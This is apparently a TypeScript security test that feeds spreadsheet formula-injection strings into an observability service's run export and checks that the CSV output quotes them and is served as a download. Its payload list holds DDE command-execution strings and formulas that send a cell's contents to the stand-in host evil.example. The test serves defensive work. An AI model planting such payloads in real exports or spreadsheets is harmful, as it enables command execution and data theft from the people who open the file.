// F91: names that a spreadsheet would run, in an export. Each is quoted, and nothing else is altered.
import { readCsv } from './csv.ts';
import { jsonType, post } from './door-client.ts';
import type { Fault } from './fault.ts';
import { jobSpan, jobWords, textPair, toJson } from './otlp-model.ts';
import { awaitRuns } from './stored-runs.ts';

const queue = 'f91';
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"ok")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=cmd|"/C calc"!A0',
  ' =1+1',
  'a,b;c"d',
  '"=1+1"',
  'line\nbreak',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
];
const isFormula = (text: string): boolean => /^[=+\-@\t\r]/.test(text);

export const formulaExport: Fault = {
  id: 'F91',
  what: 'names that a spreadsheet would run, in an export',
  async run(rig) {
    for (const [index, text] of formulas.entries()) {
      const span = jobSpan(queue, `id-${index}`, {
        attributes: [...jobWords(queue, `id-${index}`, { job: text }), textPair('job.correlation_id', text)],
      });
      await post(`${rig.otlpUrl}/v1/traces`, jsonType, toJson({ spans: [span], resource: [] }));
    }
    const runs = await awaitRuns(rig, queue, formulas.length);
    const headers = { authorization: `Bearer ${rig.token}` };
    const answer = await fetch(`${rig.url}/api/v1/export/runs.csv?environment=faults&queue=${queue}`, { headers });
    const [head = [], ...lines] = readCsv(await answer.text());
    const cellsOf = (name: string) => lines.map((cells) => cells[head.indexOf(name)] ?? '');
    const isAttached = (answer.headers.get('content-disposition') ?? '').includes('attachment');
    const dangerous = lines.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell));
    const jobs = cellsOf('job');
    const altered = runs.filter(({ job }) => job !== null && !jobs.includes(isFormula(job) ? `'${job}` : job));
    return {
      formulas: formulas.length,
      stored: runs.length,
      lines: lines.length,
      dangerous: dangerous.length,
      altered: altered.length,
      isAttached,
      pass:
        runs.length === formulas.length &&
        lines.length === formulas.length &&
        dangerous.length === 0 &&
        altered.length === 0 &&
        isAttached,
    };
  },
};
